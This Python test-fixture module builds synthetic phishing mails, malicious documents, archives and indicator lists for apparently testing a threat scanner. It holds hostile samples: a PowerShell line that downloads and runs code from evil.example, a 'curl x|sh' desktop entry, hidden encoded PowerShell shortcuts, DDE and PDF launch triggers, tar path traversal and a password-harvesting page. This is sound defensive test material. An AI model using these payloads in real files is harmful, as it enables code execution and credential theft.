"""What frightens people, one of each kind and made by hand: mails in their wrappings, files, pictures, lists."""

import json
from base64 import encodebytes
from collections.abc import Mapping

from tests.exhibits import AUTOOPEN, PHISH, macro_document, mail, part, vba_project, zipped
from tests.exhibits.archives import cabinet, nested_zip, old_rar, packed, rar, tarred
from tests.exhibits.files import bmp, gif, jpeg, linux_program, mac_program, png, shortcut, windows_program
from tests.exhibits.forwards import FORWARDS, PAGES
from tests.exhibits.headers import FAILED, GOOGLE, MICROSOFT, POSTFIX, letter, report_of_delivery
from tests.exhibits.invitations import ORDINARY, calendar, contact
from tests.exhibits.office import (
    EQUATION,
    active_mime,
    binary_workbook,
    document,
    field,
    notebook,
    old_document,
    old_workbook,
    reaching,
    rich,
    rich_object,
    sheet,
    starts_alone,
    with_packed,
    workbook,
)
from tests.exhibits.outlook import enclosed, kept_mail, message, msg, octets, properties, recipient, text, winmail
from tests.exhibits.pages import archive_page, as_file, code, holding, in_letters, linked, pdf, photograph, stream
from tests.exhibits.phones import app, certificate, payload, profile, signature

LINK = "https://login.bank.example@evil.example/in?x=1"
PAGE = (
    f'<html><head><meta http-equiv="refresh" content="9;url={LINK}"><style>.a{{display:none}}</style></head><body>'
    f'<p class="a">hidden</p><a href="{LINK}">https://www.bank.example</a><form action="//evil.example/x">'
    '<input type="password" name="p"></form><img src="data:image/png;base64,iVBORw0KGgo=">'
    '<script>var a=atob("aHR0cDovL2V2aWwuZXhhbXBsZQ==");location=a;new Blob([a])</script></body></html>'
)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><a href="{LINK}"><text>a</text></a><script>1</script></svg>'
)
SIGNER = certificate("Notes")


def letters() -> tuple[bytes, ...]:
    """Mails to the desk, and mails that frightened by themselves."""
    arabic, page = FORWARDS[0], PAGES["gmail"].encode()
    inline = f"Content-Type: text/plain; charset=utf-8\r\n\r\n{arabic.text}".encode()
    alternative = b"Content-Type: multipart/alternative; boundary=in\r\n\r\n--in\r\n" + inline + b"\r\n--in\r\n"
    alternative += part(page, "text/html; charset=utf-8") + b"--in--\r\n"
    digest = b"Content-Type: multipart/digest; boundary=d\r\n\r\n--d\r\n\r\n" + PHISH + b"\r\n--d--\r\n"
    return (
        PHISH,
        mail("Is it real?", part(PHISH, "message/rfc822", encoded=False), part(SVG.encode(), "image/svg+xml", "a.svg")),
        mail(
            "a",
            part(PHISH, "application/octet-stream", "مرفق.eml"),
            part(outlook(), "application/vnd.ms-outlook", "a.msg"),
        ),
        mail(
            "b",
            part(encodebytes(PHISH), "message/rfc822", "b.eml"),
            part(winmail_dat(), "application/ms-tnef", "winmail.dat"),
        ),
        mail("c", digest, part(zipped(d__eml=PHISH), "application/zip", "c.zip")),
        mail(arabic.text, headers="X-Mailer: iPhone Mail (21A329)\r\n"),
        mail("انظروا", alternative, part(code(LINK), "image/png", "qr.png")),
        mail(in_letters(LINK, "halves"), part(ORDINARY, "text/calendar; method=REQUEST")),
        letter(
            '"Bank.example" <alert@evil.example>',
            "Your account expires",
            GOOGLE,
            FAILED.format(domain="evil.example", policy="NONE"),
        ),
        letter(
            "=?utf-8?b?2KfZhNio2YbZgw==?= <a@xn--mgbh0fb.example>", "=?windows-1256?q?=C7=E1=CA?=", MICROSOFT, body=PAGE
        ),
        letter(
            provider=POSTFIX,
            more="Reply-To: other@gmail.com\r\nX-PHP-Originating-Script: 0:mailer.php\r\n",
            body="Send 1 BTC",
        ),
        report_of_delivery(),
    )


def outlook() -> bytes:
    """A mail as Outlook keeps it, with a file and another mail in it."""
    inner = message(text(0x0037, "inner"), text(0x1000, f"see {LINK}"))
    return msg(
        text(0x007D, "From: Bank <alert@evil.example>\r\nSubject: x\r\n\r\n"), text(0x0037, "خبر"),
        text(0x1000, "افتحوا"), octets(0x1013, PAGE.encode()), recipient(0, "Sami", "sami@desk.example"),
        enclosed(0, text(0x3707, "a.jpg.exe"), octets(0x3701, b"MZ" + bytes(99))), enclosed(1, kept_mail(inner)),
        fixed={0x3FDE: 65001, 0x0039: 133_936_000_000_000_000},
    )  # fmt: skip


def winmail_dat() -> bytes:
    """A mail as Outlook sends it to Outlook."""
    inside = winmail((0x9003, properties((0x1F, 0x1000, "deep".encode("utf-16-le")))))
    return winmail(
        (0x00089006, b"\x00\x00\x01\x00"), (0x00069007, (1256).to_bytes(4, "little") + bytes(4)),
        (0x00018004, "فاتورة".encode("cp1256") + b"\0"),
        (0x9003, properties((0x3, 0x3FDE, (1256).to_bytes(4, "little")), (0x102, 0x1013, PAGE.encode()))),
        (0x9002, bytes(14)), (0x00018010, b"bill.exe\0"), (0x0006800F, b"MZ\x90\x00"), (0x9002, bytes(14)),
        (0x9005, properties((0x1F, 0x3707, "kept".encode("utf-16-le")), (0xD, 0x3701, bytes(16) + inside))),
    )  # fmt: skip


def files() -> tuple[bytes, ...]:
    """Each with its name in the first line."""
    return tuple(name.encode() + b"\n" + content for name, content in _files().items())


def _files() -> Mapping[str, bytes]:
    scary = {
        "فاتورة.pdf.exe": windows_program(signed=True),
        "a\u202efdp.js": b"WScript.Shell",
        "read.txt": LINK.encode(),
    }
    wifi = (
        payload("wifi.managed", SSID_STR="x"),
        payload("vpn.managed", PayloadDisplayName="VPN", RemoteAddress="evil.example"),
    )
    asks = ("READ_SMS", "SYSTEM_ALERT_WINDOW", "BIND_ACCESSIBILITY_SERVICE")
    return {
        "a.zip": packed("zip", scary, password="cedar7"),
        "b.zip": nested_zip(2, macro_document()),
        "a.7z": packed("7zip", scary),
        "a.tar": tarred(scary, {"out": "../../etc", "hard": "=../a"}),
        "a.iso": packed("iso9660", {"a.lnk": shortcut("/c powershell -enc AAAA")})[:66_000],
        "a.rar": rar(scary, ["x"]),
        "old.rar": old_rar("a.exe", "b"),
        "a.cab": cabinet("a.js", b"x"),
        "letter.docm": macro_document(),
        "letter.docx": document(field("DDEAUTO c:\\\\windows ", '"/c calc"')),
        "far.docx": reaching("attachedTemplate", LINK),
        "book.xlsm": workbook("<definedName>_xlnm.Auto_Open</definedName>", '<sheet name="a" state="veryHidden"/>',
                              xl_S_vbaProject__bin=vba_project(AUTOOPEN)),
        "book.xlsb": binary_workbook(),
        "book.xls": old_workbook(sheet("Macro1", kind=1, hidden=2), starts_alone()),
        "letter.doc": old_document(f"see {LINK}"),
        "packed.doc": with_packed("a.exe", b"MZ" + bytes(50)),
        "letter.rtf": rich_object("Equation.3", EQUATION + bytes(60), b"{\\*\\x}"),
        "linked.rtf": rich(rb"{\field{\*\fldinst HYPERLINK http://0xCB007109/a}{\fldrslt here}}\u1605?"),
        "notes.one": notebook(("open.hta", b"<script>1</script>"), ("a.png", png())),
        "old.mht": active_mime(b"DPB=x"),
        "paper.pdf": pdf(
            b"<< /S /JavaScript /JS (app.launchURL\\(x\\)) >>",
            root=b"/OpenAction 6 0 R", sheet=linked(LINK), words="Pay now",
        ),
        "holding.pdf": holding("a.exe", windows_program()[:600]),
        "drawn.pdf": pdf(stream(b"x"), sheet=b"/AA << /O << /S /Launch /F (cmd.exe) >> >>", words="Invoice\nBank"),
        "page.html": PAGE.encode(),
        "page.mht": archive_page([{"kind": b"text/html", "place": b"file:///a", "content": PAGE.encode()}]),
        "drawn.svg": SVG.encode(),
        "qr.png": code(LINK),
        "photo.jpg": jpeg(b"PK\x03\x04"),
        "still.gif": gif(b"<script>"),
        "notes.apk": app(asks=asks, lends=asks[2:], signer=SIGNER, old_signer=SIGNER, debuggable=True),
        "vpn.mobileconfig": profile(*wifi, PayloadDisplayName="ملف"),
        "signed.mobileconfig": signature(profile(*wifi), SIGNER, pieces=3, measured=False),
        "meeting.ics": calendar(
            "DTSTART:20260601T100000Z", f"SUMMARY:{LINK}", f"ATTACH:{LINK}", "ORGANIZER;CN=x:mailto:a@b.example",
            alarm=("ACTION:EMAIL", "TRIGGER:-PT15M"),
        ),
        "layla.vcf": contact("FN:ليلى", f"URL:{LINK}", "PHOTO;ENCODING=b;TYPE=PNG:iVBORw0KGgo=", "KEY:data:,x"),
        "open.lnk": shortcut("/c powershell -w hidden -enc AAAA", "imageres.dll"),
        "open.url": f"[InternetShortcut]\r\nURL={LINK}\r\nIconFile=\\\\evil.example\\a.ico\r\n".encode(),
        "a.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n",
        "kept.msg": outlook(),
        "winmail.dat": winmail_dat(),
        "kept.eml": PHISH,
        "run.ps1": b"$a='ht'+'tp://evil.example/a';IEX (New-Object Net.WebClient).DownloadString($a)",
        "setup.exe": windows_program(behind=b"behind"),
        "prog": linux_program(),
        "mac": mac_program(signed=True),
    }  # fmt: skip


def pictures() -> tuple[bytes, ...]:
    """As they are attached, with what may stand beside the pixels."""
    drawn = photograph(60, 40)
    exif = drawn.getexif()
    exif[0x0112], exif[0x010E] = 6, "at home"
    few = drawn.convert("P")
    more = {"exif": exif.tobytes(), "comment": b"at home"}
    return (
        code(LINK), png(), bmp(), gif(b"x"), as_file(drawn, "JPEG", **more), as_file(drawn, "PNG", exif=exif.tobytes()),
        as_file(few, "GIF"), as_file(few, "PNG", transparency=0), as_file(drawn, "WEBP"), as_file(drawn, "TIFF"),
        as_file(photograph(20, 20, "RGBA"), "PNG"), as_file(photograph(20, 20, "L").convert("I"), "TIFF"),
        as_file(photograph(20, 20).convert("CMYK"), "JPEG"), as_file(photograph(32, 32), "ICO"),
    )  # fmt: skip


def lists() -> tuple[bytes, ...]:
    """Indicators in each form that is read; the first line is the list's name."""
    patterns = (
        "[domain-name:value='evil.example']",
        "[file:hashes.'SHA-256' = '" + "cd" * 32 + "']",
        f"[url:value='{LINK}']",
    )
    objects = [{"type": "malware", "id": "malware--1", "name": "SandViper"}]
    objects += [{"type": "indicator", "pattern": one, "modified": "2026-03-30T16:42:48Z"} for one in patterns]
    attributes = [{"type": "domain|ip", "value": "b.example|45.1.2.3", "to_ids": True, "timestamp": "1780000000"}]
    event = {
        "Event": {
            "info": "Phishing",
            "date": "2026-05-01",
            "Attribute": attributes,
            "Object": [{"Attribute": attributes}],
        }
    }
    yaml = "- name: WatchThem\n  packages:\n  - com.watch.them\n  certificates:\n  - " + "0F" * 20
    yaml += "\n  websites:\n  - watchthem.example\n  c2:\n    ips:\n    - 45.1.2.3\n"
    return (
        b"viper.stix2\n" + json.dumps({"type": "bundle", "objects": objects}).encode(),
        b"misp.json\n" + json.dumps({"response": [event]}).encode(),
        b"a.csv\nType,Indicator,First seen\ndomain,evil[.]example,2026-02-03\nsha256;" + b"ab" * 32 + b",x,\n",
        b"b.csv\ndomain;sha256\nevil.example;" + b"ab" * 32 + b"\nother.example;\n",
        "c.txt\n# of May\nevil[.]example\nhxxps://مثال.example/a\n45[.]1.2.3\nx[at]evil.example\n+201001234567\n".encode(),
        b"ioc.yaml\n" + yaml.encode(),
    )


def forwards() -> tuple[bytes, ...]:
    return (*(one.text.encode() for one in FORWARDS), *(page.encode() for page in PAGES.values()))
